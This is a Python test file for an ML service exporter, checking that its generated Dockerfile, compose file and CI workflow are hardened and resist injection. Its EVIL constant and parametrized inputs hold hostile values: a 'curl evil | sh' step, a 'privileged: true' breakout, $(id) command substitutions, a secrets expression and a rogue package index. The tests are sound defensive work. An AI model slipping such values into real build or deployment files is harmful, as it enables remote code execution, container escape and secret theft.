"""The files that deploy a delivery: their own tests pass, their values cannot break out."""

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from mlwright.base.errors import ExportError
from mlwright.delivery.manifest import check_manifest
from mlwright.delivery.service_files import ServiceFacts, base_pins, image_slug, write_service
from mlwright.serving.example import Example

EVIL = "x\"\n    privileged: true\nRUN curl evil | sh #$(id) `id` ${{ secrets.X }} ' @python@"


@pytest.mark.parametrize("which", ["sealed", "sealed_regression"])
def test_the_delivered_tests_pass_in_a_copy(which: str, request: pytest.FixtureRequest, tmp_path: Path) -> None:
    copy = Path(shutil.copytree(request.getfixturevalue(which), tmp_path / "delivery"))
    command = [sys.executable, "-B", "-m", "pytest", "-q", "-p", "no:cacheprovider", "service/tests"]
    kept = {name: value for name, value in os.environ.items() if not name.startswith("PYTEST")}
    done = subprocess.run(command, cwd=copy, env=kept, capture_output=True, text=True, timeout=240, check=False)
    assert done.returncode == 0, done.stdout[-3000:]
    assert re.search(r"\d{2} passed", done.stdout)
    check_manifest(copy)


@pytest.fixture
def written(tmp_path: Path) -> Path:
    example = Example(row={"a": 1.0}, value=2.0)
    write_service(tmp_path, ServiceFacts(EVIL, EVIL, python="3.12", pins={"numpy": "2.4.0"}, example=example))
    return tmp_path / "service"


def test_a_name_cannot_break_out_of_a_file(written: Path) -> None:
    for name in ("Dockerfile", "compose.yaml", ".github/workflows/ci.yml", "app.py"):
        text = (written / name).read_text()
        assert "evil | sh" not in text
        assert "privileged: true" not in text
        assert "${{" not in text
        assert "$(id)" not in text
    assert yaml.safe_load((written / "compose.yaml").read_text())["services"].keys() == {"model"}


def test_the_container_has_no_rights_to_spare(written: Path) -> None:
    model = yaml.safe_load((written / "compose.yaml").read_text())["services"]["model"]
    assert model["read_only"] is True
    assert model["cap_drop"] == ["ALL"]
    assert model["security_opt"] == ["no-new-privileges:true"]
    assert "MLWRIGHT_KEY_HASHES:?" in model["environment"]["MLWRIGHT_KEY_HASHES"]
    lines = (written / "Dockerfile").read_text().splitlines()
    assert sum(line.startswith("FROM python:3.12-slim") for line in lines) == 2
    assert "USER 10001:10001" in lines
    assert any(line.startswith("HEALTHCHECK") for line in lines)
    assert 'ENTRYPOINT ["python", "service/app.py"]' in lines


def test_the_workflow_is_one(written: Path) -> None:
    workflow = yaml.safe_load((written / ".github" / "workflows" / "ci.yml").read_text())
    assert workflow["permissions"] == {"contents": "read"}
    assert any("mlwright verify" in step.get("run", "") for step in workflow["jobs"]["check"]["steps"])


def test_requirements_are_pinned_to_the_base_install() -> None:
    pins = base_pins()
    assert {"numpy", "onnxruntime", "pydantic", "fastapi", "uvicorn", "starlette"} <= set(pins)
    assert not {"pandas", "scikit-learn", "mlflow", "polars"} & set(pins)
    assert pins["numpy"] == __import__("numpy").__version__


def test_every_requirement_is_exact(written: Path) -> None:
    lines = [line for line in (written / "requirements.txt").read_text().splitlines() if not line.startswith("#")]
    assert lines[1:] == ["numpy==2.4.0"]
    assert re.fullmatch(r"mlwright==[0-9.]+", lines[0])


@pytest.mark.parametrize("wrong", [{"python": "3.12\nRUN x"}, {"mlwright": "1 x"}, {"pins": {"a": "1 --index-url x"}}])
def test_a_version_that_is_none_is_refused(tmp_path: Path, wrong: dict) -> None:
    facts = {"pins": {}, "example": Example(row={}, value=1.0), **wrong}
    with pytest.raises(ExportError):
        write_service(tmp_path, ServiceFacts("m", "1", **facts))


def test_slugs_are_plain_words() -> None:
    assert image_slug("Überraschung!") == "berraschung"
    assert image_slug("@@@") == "model"
